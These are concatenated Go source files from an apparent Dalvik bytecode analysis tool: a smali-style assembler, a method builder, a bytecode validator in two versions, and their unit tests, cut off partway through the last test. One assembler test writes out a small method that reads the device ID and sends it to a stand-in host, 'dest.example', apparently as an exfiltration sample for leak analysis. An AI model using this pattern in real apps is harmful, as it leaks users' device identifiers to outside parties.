	case "goto":
		l, err := parseLabel(ops[0])
		if err != nil {
			return err
		}
		mb.Goto(l)
	case "throw":
		rs, err := regs(1)
		if err != nil {
			return err
		}
		mb.Throw(rs[0])
	default:
		return assembleCompound(mb, mnem, ops)
	}
	return nil
}

func assembleFieldInsn(mb *MethodBuilder, mnem string, ops []string) error {
	r, err := parseReg(ops[0])
	if err != nil {
		return err
	}
	refIdx := 1
	obj := -1
	if mnem == "iget" || mnem == "iput" {
		if len(ops) != 3 {
			return fmt.Errorf("%s wants vA, vObj, Lcls;->field", mnem)
		}
		obj, err = parseReg(ops[1])
		if err != nil {
			return err
		}
		refIdx = 2
	}
	class, member, _, err := parseMemberRef(ops[refIdx])
	if err != nil {
		return err
	}
	switch mnem {
	case "iget":
		mb.Iget(r, obj, class, member)
	case "iput":
		mb.Iput(r, obj, class, member)
	case "sget":
		mb.Sget(r, class, member)
	case "sput":
		mb.Sput(r, class, member)
	}
	return nil
}

func assembleInvoke(mb *MethodBuilder, mnem, rest string) error {
	open := strings.IndexByte(rest, '{')
	closeB := strings.IndexByte(rest, '}')
	if open < 0 || closeB < open {
		return fmt.Errorf("%s wants {regs}, Lcls;->sig", mnem)
	}
	var argRegs []int
	for _, tok := range strings.Split(rest[open+1:closeB], ",") {
		tok = strings.TrimSpace(tok)
		if tok == "" {
			continue
		}
		r, err := parseReg(tok)
		if err != nil {
			return err
		}
		argRegs = append(argRegs, r)
	}
	ref := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(rest[closeB+1:]), ","))
	class, member, shorty, err := parseMemberRef(ref)
	if err != nil {
		return err
	}
	if shorty == "" {
		return fmt.Errorf("%s needs a full signature, got %q", mnem, ref)
	}
	switch mnem {
	case "invoke-virtual":
		mb.InvokeVirtual(class, member, shorty, argRegs...)
	case "invoke-static":
		mb.InvokeStatic(class, member, shorty, argRegs...)
	case "invoke-direct":
		mb.InvokeDirect(class, member, shorty, argRegs...)
	}
	return nil
}

// assembleCompound handles hyphenated families: if-*, <arith>-<type>,
// conversions, and cmp instructions.
func assembleCompound(mb *MethodBuilder, mnem string, ops []string) error {
	regs := func(n int) ([]int, error) {
		if len(ops) < n {
			return nil, fmt.Errorf("%s wants %d register operands", mnem, n)
		}
		out := make([]int, n)
		for i := 0; i < n; i++ {
			r, err := parseReg(ops[i])
			if err != nil {
				return nil, err
			}
			out[i] = r
		}
		return out, nil
	}

	// if-eqz vA, :label / if-eq vA, vB, :label
	if strings.HasPrefix(mnem, "if-") {
		cond := strings.TrimPrefix(mnem, "if-")
		if strings.HasSuffix(cond, "z") {
			c, ok := dexCmps[strings.TrimSuffix(cond, "z")]
			if !ok {
				return fmt.Errorf("unknown condition %q", cond)
			}
			rs, err := regs(1)
			if err != nil {
				return err
			}
			l, err := parseLabel(ops[1])
			if err != nil {
				return err
			}
			mb.IfZ(rs[0], c, l)
			return nil
		}
		c, ok := dexCmps[cond]
		if !ok {
			return fmt.Errorf("unknown condition %q", cond)
		}
		rs, err := regs(2)
		if err != nil {
			return err
		}
		l, err := parseLabel(ops[2])
		if err != nil {
			return err
		}
		mb.If(rs[0], c, rs[1], l)
		return nil
	}

	// conversions
	switch mnem {
	case "int-to-float", "float-to-int", "int-to-double", "double-to-int",
		"int-to-long", "long-to-int":
		rs, err := regs(2)
		if err != nil {
			return err
		}
		switch mnem {
		case "int-to-float":
			mb.IntToFloat(rs[0], rs[1])
		case "float-to-int":
			mb.FloatToInt(rs[0], rs[1])
		case "int-to-double":
			mb.IntToDouble(rs[0], rs[1])
		case "double-to-int":
			mb.DoubleToInt(rs[0], rs[1])
		case "int-to-long":
			mb.add(Insn{Op: IntToLong, A: rs[0], B: rs[1]})
		case "long-to-int":
			mb.add(Insn{Op: LongToInt, A: rs[0], B: rs[1]})
		}
		return nil
	case "cmp-float", "cmpl-float":
		rs, err := regs(3)
		if err != nil {
			return err
		}
		mb.CmpFloatOp(rs[0], rs[1], rs[2])
		return nil
	case "cmp-double", "cmpl-double":
		rs, err := regs(3)
		if err != nil {
			return err
		}
		mb.CmpDoubleOp(rs[0], rs[1], rs[2])
		return nil
	case "cmp-long":
		rs, err := regs(3)
		if err != nil {
			return err
		}
		mb.add(Insn{Op: CmpLong, A: rs[0], B: rs[1], C: rs[2]})
		return nil
	}

	// <arith>-<type>[/lit]: add-int, mul-float, div-double, add-int/lit, ...
	base := mnem
	lit := false
	if strings.HasSuffix(base, "/lit") {
		base = strings.TrimSuffix(base, "/lit")
		lit = true
	}
	dash := strings.IndexByte(base, '-')
	if dash < 0 {
		return fmt.Errorf("unknown instruction %q", mnem)
	}
	op, ok := dexArithOps[base[:dash]]
	if !ok {
		return fmt.Errorf("unknown instruction %q", mnem)
	}
	kind := base[dash+1:]
	if lit {
		if kind != "int" {
			return fmt.Errorf("/lit form is int-only, got %q", mnem)
		}
		rs, err := regs(2)
		if err != nil {
			return err
		}
		v, err := parseLit(ops[2])
		if err != nil {
			return err
		}
		mb.BinLit(op, rs[0], rs[1], int32(v))
		return nil
	}
	rs, err := regs(3)
	if err != nil {
		return err
	}
	switch kind {
	case "int":
		mb.Bin(op, rs[0], rs[1], rs[2])
	case "long":
		mb.BinWide(op, rs[0], rs[1], rs[2])
	case "float":
		mb.BinFloat(op, rs[0], rs[1], rs[2])
	case "double":
		mb.BinDouble(op, rs[0], rs[1], rs[2])
	default:
		return fmt.Errorf("unknown type %q in %q", kind, mnem)
	}
	return nil
}

// splitDexOperands splits on commas outside braces and quotes.
func splitDexOperands(s string) []string {
	var out []string
	depth := 0
	inStr := false
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			inStr = !inStr
		case '{':
			if !inStr {
				depth++
			}
		case '}':
			if !inStr {
				depth--
			}
		case ',':
			if depth == 0 && !inStr {
				out = append(out, strings.TrimSpace(s[start:i]))
				start = i + 1
			}
		}
	}
	if last := strings.TrimSpace(s[start:]); last != "" {
		out = append(out, last)
	}
	return out
}
