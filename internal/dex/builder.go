package dex

import "fmt"

// ClassBuilder assembles a Class programmatically. The synthetic apps in
// internal/apps and the corpus generator build their Dalvik code through it.
type ClassBuilder struct {
	cls *Class
}

// NewClass starts a builder for the class with the given descriptor.
func NewClass(name string) *ClassBuilder {
	return &ClassBuilder{cls: &Class{Name: name, Super: "Ljava/lang/Object;"}}
}

// Super sets the superclass descriptor.
func (b *ClassBuilder) Super(name string) *ClassBuilder {
	b.cls.Super = name
	return b
}

// InstanceField declares an instance field.
func (b *ClassBuilder) InstanceField(name string, wide bool) *ClassBuilder {
	idx := 0
	for _, f := range b.cls.InstanceFields {
		idx++
		if f.Wide {
			idx++
		}
	}
	b.cls.InstanceFields = append(b.cls.InstanceFields, &Field{
		Class: b.cls, Name: name, Wide: wide, Index: idx,
	})
	return b
}

// StaticField declares a static field.
func (b *ClassBuilder) StaticField(name string, wide bool) *ClassBuilder {
	idx := len(b.cls.StaticData)
	b.cls.StaticFields = append(b.cls.StaticFields, &Field{
		Class: b.cls, Name: name, Wide: wide, Static: true, Index: idx,
	})
	n := 1
	if wide {
		n = 2
	}
	b.cls.StaticData = append(b.cls.StaticData, make([]uint32, n)...)
	b.cls.StaticTaints = append(b.cls.StaticTaints, make([]uint32, n)...)
	return b
}

// NativeMethod declares a JNI-bridged native method; addr is bound later by
// the app loader (or immediately if known).
func (b *ClassBuilder) NativeMethod(name, shorty string, flags uint32, addr uint32) *ClassBuilder {
	b.cls.Methods = append(b.cls.Methods, &Method{
		Class: b.cls, Name: name, Shorty: shorty,
		Flags: flags | AccNative, NativeAddr: addr,
	})
	return b
}

// Method starts building an interpreted method. numLocals is the count of
// non-argument registers; argument registers follow them (Dalvik layout).
func (b *ClassBuilder) Method(name, shorty string, flags uint32, numLocals int) *MethodBuilder {
	m := &Method{Class: b.cls, Name: name, Shorty: shorty, Flags: flags}
	m.NumRegs = numLocals + m.InsSize()
	b.cls.Methods = append(b.cls.Methods, m)
	return &MethodBuilder{m: m, labels: map[string]int{}}
}

// Build finalizes and returns the class.
func (b *ClassBuilder) Build() *Class { return b.cls }

// MethodBuilder accumulates instructions with label-based branching.
type MethodBuilder struct {
	m         *Method
	labels    map[string]int
	fixups    []fixup
	tryFixups []tryFixup
}

type fixup struct {
	insn  int
	label string
}

// ArgReg returns the register index of the i-th argument register slot
// (0-based; `this` is slot 0 for instance methods, wide args occupy two).
func (mb *MethodBuilder) ArgReg(i int) int {
	return mb.m.NumRegs - mb.m.InsSize() + i
}

func (mb *MethodBuilder) add(i Insn) *MethodBuilder {
	mb.m.Insns = append(mb.m.Insns, i)
	return mb
}

// Label marks the next instruction index with a name.
func (mb *MethodBuilder) Label(name string) *MethodBuilder {
	mb.labels[name] = len(mb.m.Insns)
	return mb
}

// Nop appends a nop.
func (mb *MethodBuilder) Nop() *MethodBuilder { return mb.add(Insn{Op: Nop}) }

// Const loads a 32-bit literal.
func (mb *MethodBuilder) Const(a int, v int32) *MethodBuilder {
	return mb.add(Insn{Op: Const, A: a, Lit: int64(v)})
}

// ConstWide loads a 64-bit literal into the pair (a, a+1).
func (mb *MethodBuilder) ConstWide(a int, v int64) *MethodBuilder {
	return mb.add(Insn{Op: ConstWide, A: a, Lit: v})
}

// ConstString allocates a string object from a literal.
func (mb *MethodBuilder) ConstString(a int, s string) *MethodBuilder {
	return mb.add(Insn{Op: ConstString, A: a, Str: s})
}

// Move copies a register.
func (mb *MethodBuilder) Move(a, br int) *MethodBuilder {
	return mb.add(Insn{Op: Move, A: a, B: br})
}

// MoveWide copies a register pair.
func (mb *MethodBuilder) MoveWide(a, br int) *MethodBuilder {
	return mb.add(Insn{Op: MoveWide, A: a, B: br})
}

// MoveResult captures the last invoke's return value.
func (mb *MethodBuilder) MoveResult(a int) *MethodBuilder {
	return mb.add(Insn{Op: MoveResult, A: a})
}

// MoveResultWide captures a wide return value.
func (mb *MethodBuilder) MoveResultWide(a int) *MethodBuilder {
	return mb.add(Insn{Op: MoveResultWide, A: a})
}

// MoveException captures the pending exception at a handler.
func (mb *MethodBuilder) MoveException(a int) *MethodBuilder {
	return mb.add(Insn{Op: MoveException, A: a})
}

// ReturnVoid returns with no value.
func (mb *MethodBuilder) ReturnVoid() *MethodBuilder { return mb.add(Insn{Op: ReturnVoid}) }

// Return returns vA.
func (mb *MethodBuilder) Return(a int) *MethodBuilder { return mb.add(Insn{Op: Return, A: a}) }

// ReturnWide returns the pair (a, a+1).
func (mb *MethodBuilder) ReturnWide(a int) *MethodBuilder {
	return mb.add(Insn{Op: ReturnWide, A: a})
}

// NewInstance allocates an object of the named class.
func (mb *MethodBuilder) NewInstance(a int, class string) *MethodBuilder {
	return mb.add(Insn{Op: NewInstance, A: a, ClassName: class})
}

// NewArray allocates an array; kind is a shorty element char ("I","B","L"...).
func (mb *MethodBuilder) NewArray(a, size int, kind string) *MethodBuilder {
	return mb.add(Insn{Op: NewArray, A: a, B: size, Str: kind})
}

// ArrayLength loads an array's length.
func (mb *MethodBuilder) ArrayLength(a, arr int) *MethodBuilder {
	return mb.add(Insn{Op: ArrayLength, A: a, B: arr})
}

// Aget loads arr[idx].
func (mb *MethodBuilder) Aget(a, arr, idx int) *MethodBuilder {
	return mb.add(Insn{Op: Aget, A: a, B: arr, C: idx})
}

// Aput stores into arr[idx].
func (mb *MethodBuilder) Aput(a, arr, idx int) *MethodBuilder {
	return mb.add(Insn{Op: Aput, A: a, B: arr, C: idx})
}

// Iget loads an instance field.
func (mb *MethodBuilder) Iget(a, obj int, class, field string) *MethodBuilder {
	return mb.add(Insn{Op: Iget, A: a, B: obj, ClassName: class, MemberName: field})
}

// Iput stores an instance field.
func (mb *MethodBuilder) Iput(a, obj int, class, field string) *MethodBuilder {
	return mb.add(Insn{Op: Iput, A: a, B: obj, ClassName: class, MemberName: field})
}

// Sget loads a static field.
func (mb *MethodBuilder) Sget(a int, class, field string) *MethodBuilder {
	return mb.add(Insn{Op: Sget, A: a, ClassName: class, MemberName: field})
}

// Sput stores a static field.
func (mb *MethodBuilder) Sput(a int, class, field string) *MethodBuilder {
	return mb.add(Insn{Op: Sput, A: a, ClassName: class, MemberName: field})
}

// InvokeVirtual calls an instance method; args[0] is the receiver.
func (mb *MethodBuilder) InvokeVirtual(class, name, shorty string, args ...int) *MethodBuilder {
	return mb.add(Insn{Op: InvokeVirtual, ClassName: class, MemberName: name, Shorty: shorty, Args: args})
}

// InvokeDirect calls a constructor or private method.
func (mb *MethodBuilder) InvokeDirect(class, name, shorty string, args ...int) *MethodBuilder {
	return mb.add(Insn{Op: InvokeDirect, ClassName: class, MemberName: name, Shorty: shorty, Args: args})
}

// InvokeStatic calls a static method.
func (mb *MethodBuilder) InvokeStatic(class, name, shorty string, args ...int) *MethodBuilder {
	return mb.add(Insn{Op: InvokeStatic, ClassName: class, MemberName: name, Shorty: shorty, Args: args})
}

// Goto jumps to a label.
func (mb *MethodBuilder) Goto(label string) *MethodBuilder {
	mb.fixups = append(mb.fixups, fixup{insn: len(mb.m.Insns), label: label})
	return mb.add(Insn{Op: Goto})
}

// If branches when vA <cmp> vB.
func (mb *MethodBuilder) If(a int, cmp Cmp, bReg int, label string) *MethodBuilder {
	mb.fixups = append(mb.fixups, fixup{insn: len(mb.m.Insns), label: label})
	return mb.add(Insn{Op: IfTest, A: a, B: bReg, Cmp: cmp})
}

// IfZ branches when vA <cmp> 0.
func (mb *MethodBuilder) IfZ(a int, cmp Cmp, label string) *MethodBuilder {
	mb.fixups = append(mb.fixups, fixup{insn: len(mb.m.Insns), label: label})
	return mb.add(Insn{Op: IfTestZ, A: a, Cmp: cmp})
}

// Bin performs 32-bit integer arithmetic: vA := vB op vC.
func (mb *MethodBuilder) Bin(op Arith, a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: BinOp, Ar: op, A: a, B: bReg, C: c})
}

// BinLit performs vA := vB op literal.
func (mb *MethodBuilder) BinLit(op Arith, a, bReg int, lit int32) *MethodBuilder {
	return mb.add(Insn{Op: BinOpLit, Ar: op, A: a, B: bReg, Lit: int64(lit)})
}

// BinWide performs 64-bit integer arithmetic on register pairs.
func (mb *MethodBuilder) BinWide(op Arith, a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: BinOpWide, Ar: op, A: a, B: bReg, C: c})
}

// BinFloat performs float arithmetic.
func (mb *MethodBuilder) BinFloat(op Arith, a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: BinOpFloat, Ar: op, A: a, B: bReg, C: c})
}

// BinDouble performs double arithmetic on register pairs.
func (mb *MethodBuilder) BinDouble(op Arith, a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: BinOpDouble, Ar: op, A: a, B: bReg, C: c})
}

// IntToFloat converts vB to float in vA.
func (mb *MethodBuilder) IntToFloat(a, bReg int) *MethodBuilder {
	return mb.add(Insn{Op: IntToFloat, A: a, B: bReg})
}

// FloatToInt converts vB to int in vA.
func (mb *MethodBuilder) FloatToInt(a, bReg int) *MethodBuilder {
	return mb.add(Insn{Op: FloatToInt, A: a, B: bReg})
}

// IntToDouble converts vB to a double in (vA, vA+1).
func (mb *MethodBuilder) IntToDouble(a, bReg int) *MethodBuilder {
	return mb.add(Insn{Op: IntToDouble, A: a, B: bReg})
}

// DoubleToInt converts (vB, vB+1) to int in vA.
func (mb *MethodBuilder) DoubleToInt(a, bReg int) *MethodBuilder {
	return mb.add(Insn{Op: DoubleToInt, A: a, B: bReg})
}

// IntToLong sign-extends vB into (vA, vA+1).
func (mb *MethodBuilder) IntToLong(a, bReg int) *MethodBuilder {
	return mb.add(Insn{Op: IntToLong, A: a, B: bReg})
}

// LongToInt truncates (vB, vB+1) into vA.
func (mb *MethodBuilder) LongToInt(a, bReg int) *MethodBuilder {
	return mb.add(Insn{Op: LongToInt, A: a, B: bReg})
}

// CmpLongOp compares longs on register pairs: vA := -1/0/1.
func (mb *MethodBuilder) CmpLongOp(a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: CmpLong, A: a, B: bReg, C: c})
}

// CmpFloatOp compares floats: vA := -1/0/1.
func (mb *MethodBuilder) CmpFloatOp(a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: CmpFloat, A: a, B: bReg, C: c})
}

// CmpDoubleOp compares doubles on register pairs.
func (mb *MethodBuilder) CmpDoubleOp(a, bReg, c int) *MethodBuilder {
	return mb.add(Insn{Op: CmpDouble, A: a, B: bReg, C: c})
}

// Throw raises vA as an exception.
func (mb *MethodBuilder) Throw(a int) *MethodBuilder {
	return mb.add(Insn{Op: Throw, A: a})
}

// Try registers a try/catch range over labels.
func (mb *MethodBuilder) Try(startLabel, endLabel, handlerLabel, excType string) *MethodBuilder {
	// Resolved in Done() along with branch fixups.
	mb.tryFixups = append(mb.tryFixups, tryFixup{startLabel, endLabel, handlerLabel, excType})
	return mb
}

type tryFixup struct {
	start, end, handler, typ string
}

// Done resolves labels and returns the finished method.
func (mb *MethodBuilder) Done() *Method {
	for _, f := range mb.fixups {
		tgt, ok := mb.labels[f.label]
		if !ok {
			panic(fmt.Sprintf("dex: undefined label %q in %s", f.label, mb.m.FullName()))
		}
		mb.m.Insns[f.insn].Tgt = tgt
	}
	for _, tf := range mb.tryFixups {
		s, ok1 := mb.labels[tf.start]
		e, ok2 := mb.labels[tf.end]
		h, ok3 := mb.labels[tf.handler]
		if !ok1 || !ok2 || !ok3 {
			panic(fmt.Sprintf("dex: undefined try/catch label in %s", mb.m.FullName()))
		}
		mb.m.Tries = append(mb.m.Tries, TryEntry{Start: s, End: e, Handler: h, Type: tf.typ})
	}
	return mb.m
}
