package dex

import (
	"fmt"

	"repro/internal/fault"
)

// Validate structurally checks every interpreted method body in the class,
// returning a MalformedDex fault for the first defect found. It is the
// load-time counterpart of the interpreter's runtime range checks: a batch
// analyzer can reject a truncated or bit-rotted class before spending any
// execution budget on it. Native and builtin methods carry no bytecode and
// are skipped.
func (c *Class) Validate() error {
	for _, m := range c.Methods {
		if err := m.Validate(); err != nil {
			return err
		}
	}
	return nil
}

// Validate structurally checks one method body (see Class.Validate).
func (m *Method) Validate() error {
	if m.IsNative() || m.Builtin != nil {
		return nil
	}
	n := len(m.Insns)
	if n == 0 {
		return m.malformed("empty bytecode body")
	}
	switch m.Insns[n-1].Op {
	case ReturnVoid, Return, ReturnWide, Goto, Throw:
	default:
		// Any other final instruction falls through past the end of the
		// stream — the static form of the interpreter's "pc out of range".
		return m.malformed(fmt.Sprintf("body falls off the end (last op %s)", m.Insns[n-1].Op))
	}
	for pc := range m.Insns {
		insn := &m.Insns[pc]
		switch insn.Op {
		case Goto, IfTest, IfTestZ:
			if insn.Tgt < 0 || insn.Tgt >= n {
				return m.malformed(fmt.Sprintf("branch at pc %d targets %d, outside [0,%d)", pc, insn.Tgt, n))
			}
		}
	}
	for _, t := range m.Tries {
		if t.Start < 0 || t.End > n || t.Start >= t.End || t.Handler < 0 || t.Handler >= n {
			return m.malformed(fmt.Sprintf("try range [%d,%d) handler %d invalid for %d insns", t.Start, t.End, t.Handler, n))
		}
	}
	return m.validateCFG()
}

// validateCFG runs the control-flow-derived checks: every instruction must
// be reachable from entry, result/exception movers must sit at the only
// positions the interpreter defines values for them, and no branch may land
// on one (the single-slot IR analog of a branch target landing
// mid-instruction, where the mover would read a stale pseudo-register).
func (m *Method) validateCFG() error {
	n := len(m.Insns)

	isHandler := make([]bool, n)
	for _, t := range m.Tries {
		isHandler[t.Handler] = true
	}
	isInvoke := func(op Code) bool {
		return op == InvokeVirtual || op == InvokeDirect || op == InvokeStatic
	}
	for pc := range m.Insns {
		insn := &m.Insns[pc]
		switch insn.Op {
		case MoveResult, MoveResultWide:
			if pc == 0 || !isInvoke(m.Insns[pc-1].Op) {
				return m.malformed(fmt.Sprintf("%s at pc %d does not follow an invoke", insn.Op, pc))
			}
			if isHandler[pc] {
				return m.malformed(fmt.Sprintf("exception handler lands on %s at pc %d", insn.Op, pc))
			}
		case MoveException:
			if !isHandler[pc] {
				return m.malformed(fmt.Sprintf("move-exception at pc %d is not a try handler entry", pc))
			}
		case Goto, IfTest, IfTestZ:
			switch m.Insns[insn.Tgt].Op {
			case MoveResult, MoveResultWide, MoveException:
				return m.malformed(fmt.Sprintf(
					"branch at pc %d lands mid-sequence on %s at pc %d", pc, m.Insns[insn.Tgt].Op, insn.Tgt))
			}
		}
	}

	// Reachability sweep from entry; try handlers are reachable from any
	// instruction inside their range (the conservative may-throw edge).
	reached := make([]bool, n)
	work := []int{0}
	reached[0] = true
	visit := func(pc int) {
		if pc >= 0 && pc < n && !reached[pc] {
			reached[pc] = true
			work = append(work, pc)
		}
	}
	for len(work) > 0 {
		pc := work[len(work)-1]
		work = work[:len(work)-1]
		for _, t := range m.Tries {
			if pc >= t.Start && pc < t.End {
				visit(t.Handler)
			}
		}
		switch insn := &m.Insns[pc]; insn.Op {
		case Goto:
			visit(insn.Tgt)
		case IfTest, IfTestZ:
			visit(insn.Tgt)
			visit(pc + 1)
		case ReturnVoid, Return, ReturnWide, Throw:
		default:
			visit(pc + 1)
		}
	}
	for pc, r := range reached {
		if !r {
			return m.malformed(fmt.Sprintf("unreachable code at pc %d (%s)", pc, m.Insns[pc].Op))
		}
	}
	return nil
}

func (m *Method) malformed(detail string) error {
	return &fault.Fault{
		Kind: fault.MalformedDex, Layer: "dex",
		Method: m.FullName(), Detail: detail,
	}
}
