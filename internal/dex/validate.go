package dex

import (
	"fmt"

	"repro/internal/fault"
)

// Validate structurally checks every interpreted method body in the class,
// returning a MalformedDex fault for the first defect found. It is the
// load-time counterpart of the interpreter's runtime range checks: a batch
// analyzer can reject a truncated or bit-rotted class before spending any
// execution budget on it. Native and builtin methods carry no bytecode and
// are skipped.
func (c *Class) Validate() error {
	for _, m := range c.Methods {
		if err := m.Validate(); err != nil {
			return err
		}
	}
	return nil
}

// Validate structurally checks one method body (see Class.Validate).
func (m *Method) Validate() error {
	if m.IsNative() || m.Builtin != nil {
		return nil
	}
	n := len(m.Insns)
	if n == 0 {
		return m.malformed("empty bytecode body")
	}
	switch m.Insns[n-1].Op {
	case ReturnVoid, Return, ReturnWide, Goto, Throw:
	default:
		// Any other final instruction falls through past the end of the
		// stream — the static form of the interpreter's "pc out of range".
		return m.malformed(fmt.Sprintf("body falls off the end (last op %s)", m.Insns[n-1].Op))
	}
	for pc := range m.Insns {
		insn := &m.Insns[pc]
		switch insn.Op {
		case Goto, IfTest, IfTestZ:
			if insn.Tgt < 0 || insn.Tgt >= n {
				return m.malformed(fmt.Sprintf("branch at pc %d targets %d, outside [0,%d)", pc, insn.Tgt, n))
			}
		}
	}
	for _, t := range m.Tries {
		if t.Start < 0 || t.End > n || t.Start >= t.End || t.Handler < 0 || t.Handler >= n {
			return m.malformed(fmt.Sprintf("try range [%d,%d) handler %d invalid for %d insns", t.Start, t.End, t.Handler, n))
		}
	}
	return nil
}

func (m *Method) malformed(detail string) error {
	return &fault.Fault{
		Kind: fault.MalformedDex, Layer: "dex",
		Method: m.FullName(), Detail: detail,
	}
}
