package dex

import "testing"

func TestAssembleClassBasics(t *testing.T) {
	cls, err := AssembleClass(`
.class Lcom/smali/Demo;
.super Ljava/lang/Object;
.field value
.field wide stamp
.field static counter

.method static add(II)I
    .locals 1
    add-int v0, v1, v2
    return v0
.end method

.method native static work(I)I
`)
	if err != nil {
		t.Fatal(err)
	}
	if cls.Name != "Lcom/smali/Demo;" || cls.Super != "Ljava/lang/Object;" {
		t.Errorf("class header: %s / %s", cls.Name, cls.Super)
	}
	if len(cls.InstanceFields) != 2 || len(cls.StaticFields) != 1 {
		t.Errorf("fields: %d instance, %d static", len(cls.InstanceFields), len(cls.StaticFields))
	}
	f, _ := cls.FieldByName("stamp")
	if !f.Wide {
		t.Error("stamp should be wide")
	}
	m, ok := cls.Method("add")
	if !ok {
		t.Fatal("no add method")
	}
	if m.Shorty != "III" || !m.IsStatic() {
		t.Errorf("add: shorty=%s flags=%#x", m.Shorty, m.Flags)
	}
	if m.NumRegs != 3 { // 1 local + 2 ins
		t.Errorf("NumRegs = %d", m.NumRegs)
	}
	n, ok := cls.Method("work")
	if !ok || !n.IsNative() || n.Shorty != "II" {
		t.Errorf("native method wrong: %+v", n)
	}
}

func TestAssembleBranchesAndLabels(t *testing.T) {
	cls, err := AssembleClass(`
.class Lcom/smali/Loop;
.method static sum(I)I
    .locals 1
    const v0, 0
:loop
    if-lez v1, :done
    add-int v0, v0, v1
    sub-int/lit v1, v1, 1
    goto :loop
:done
    return v0
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := cls.Method("sum")
	// Instruction 1 is if-lez with target = index of return.
	if m.Insns[1].Op != IfTestZ || m.Insns[1].Cmp != Le {
		t.Errorf("insn1 = %+v", m.Insns[1])
	}
	if m.Insns[1].Tgt != 5 {
		t.Errorf("if target = %d, want 5", m.Insns[1].Tgt)
	}
	if m.Insns[4].Op != Goto || m.Insns[4].Tgt != 1 {
		t.Errorf("goto = %+v", m.Insns[4])
	}
}

func TestAssembleInvokeAndStrings(t *testing.T) {
	cls, err := AssembleClass(`
.class Lcom/smali/Inv;
.method static go()V
    .locals 2
    const-string v0, "dest.example"
    invoke-static {}, Landroid/telephony/TelephonyManager;->getDeviceId()L
    move-result v1
    invoke-static {v0, v1}, Landroid/net/Network;->send(LL)V
    return-void
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := cls.Method("go")
	if m.Insns[0].Op != ConstString || m.Insns[0].Str != "dest.example" {
		t.Errorf("const-string = %+v", m.Insns[0])
	}
	inv := m.Insns[3]
	if inv.Op != InvokeStatic || inv.ClassName != "Landroid/net/Network;" ||
		inv.MemberName != "send" || inv.Shorty != "VLL" {
		t.Errorf("invoke = %+v", inv)
	}
	if len(inv.Args) != 2 || inv.Args[0] != 0 || inv.Args[1] != 1 {
		t.Errorf("invoke args = %v", inv.Args)
	}
	getId := m.Insns[1]
	if len(getId.Args) != 0 || getId.Shorty != "L" {
		t.Errorf("zero-arg invoke = %+v", getId)
	}
}

func TestAssembleFieldsAndCatch(t *testing.T) {
	cls, err := AssembleClass(`
.class Lcom/smali/FC;
.field static slot
.method static m(L)I
    .locals 2
:try_start
    iget v0, v1, Lcom/smali/FC;->x
    sput v0, Lcom/smali/FC;->slot
    sget v0, Lcom/smali/FC;->slot
:try_end
    return v0
:handler
    move-exception v1
    const v0, -1
    return v0
    .catch Ljava/lang/Exception; :try_start :try_end :handler
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := cls.Method("m")
	if m.Insns[0].Op != Iget || m.Insns[0].B != 1 || m.Insns[0].MemberName != "x" {
		t.Errorf("iget = %+v", m.Insns[0])
	}
	if len(m.Tries) != 1 || m.Tries[0].Type != "Ljava/lang/Exception;" {
		t.Fatalf("tries = %+v", m.Tries)
	}
	if m.Tries[0].Start != 0 || m.Tries[0].End != 3 || m.Tries[0].Handler != 4 {
		t.Errorf("try range = %+v", m.Tries[0])
	}
}

func TestAssembleArithFamilies(t *testing.T) {
	cls, err := AssembleClass(`
.class Lcom/smali/Ar;
.method static m(IF)V
    .locals 6
    mul-int v0, v4, v4
    add-int/lit v0, v0, 7
    add-float v1, v5, v5
    int-to-double v2, v0
    mul-double v2, v2, v2
    double-to-int v0, v2
    cmp-double v1, v2, v2
    return-void
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := cls.Method("m")
	wantOps := []Code{BinOp, BinOpLit, BinOpFloat, IntToDouble, BinOpDouble, DoubleToInt, CmpDouble, ReturnVoid}
	for i, w := range wantOps {
		if m.Insns[i].Op != w {
			t.Errorf("insn %d = %v, want %v", i, m.Insns[i].Op, w)
		}
	}
	if m.Insns[1].Lit != 7 {
		t.Errorf("lit = %d", m.Insns[1].Lit)
	}
}

func TestAssembleErrors(t *testing.T) {
	cases := []string{
		"", // no .class
		".class LX;\n.method static m()V\n.locals 1\nreturn-void\n", // no .end
		".class LX;\n.method static m()V\nreturn-void\n.end method", // no .locals
		".class LX;\n.method static m()V\n.locals 1\nbogus-insn v0\n.end method",
		".class LX;\n.method static m()V\n.locals 1\ngoto :nowhere?\n.end method",
		".class LX;\n.method static m\n.end method", // bad signature
	}
	for i, src := range cases {
		if _, err := AssembleClass(src); err == nil {
			t.Errorf("case %d: expected error", i)
		}
	}
}

func TestAssembleCommentsIgnored(t *testing.T) {
	cls, err := AssembleClass(`
# full-line comment
.class Lcom/smali/C;
.method static m()I   # trailing comment
    .locals 1
    const v0, 5       # five
    return v0
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := cls.Method("m")
	if len(m.Insns) != 2 {
		t.Errorf("insns = %d", len(m.Insns))
	}
}
