package dex

import (
	"strings"
	"testing"

	"repro/internal/fault"
)

func buildValid(t *testing.T) *Class {
	t.Helper()
	cb := NewClass("Lcom/test/V;")
	cb.Method("ok", "V", AccStatic, 1).
		ConstString(0, "x").
		ReturnVoid().
		Done()
	return cb.Build()
}

func TestValidateAcceptsWellFormed(t *testing.T) {
	if err := buildValid(t).Validate(); err != nil {
		t.Fatalf("valid class rejected: %v", err)
	}
}

func TestValidateRejectsTruncatedBody(t *testing.T) {
	c := buildValid(t)
	m, _ := c.Method("ok")
	m.Insns = m.Insns[:len(m.Insns)-1] // drop the trailing return
	err := c.Validate()
	f, ok := fault.Of(err)
	if !ok || f.Kind != fault.MalformedDex {
		t.Fatalf("err = %v, want malformed-dex fault", err)
	}
	if f.Method != "Lcom/test/V;.ok" {
		t.Errorf("fault method = %q", f.Method)
	}
}

func TestValidateRejectsWildBranch(t *testing.T) {
	c := buildValid(t)
	m, _ := c.Method("ok")
	m.Insns = append(m.Insns, Insn{Op: Goto, Tgt: 99})
	if f, ok := fault.Of(c.Validate()); !ok || f.Kind != fault.MalformedDex {
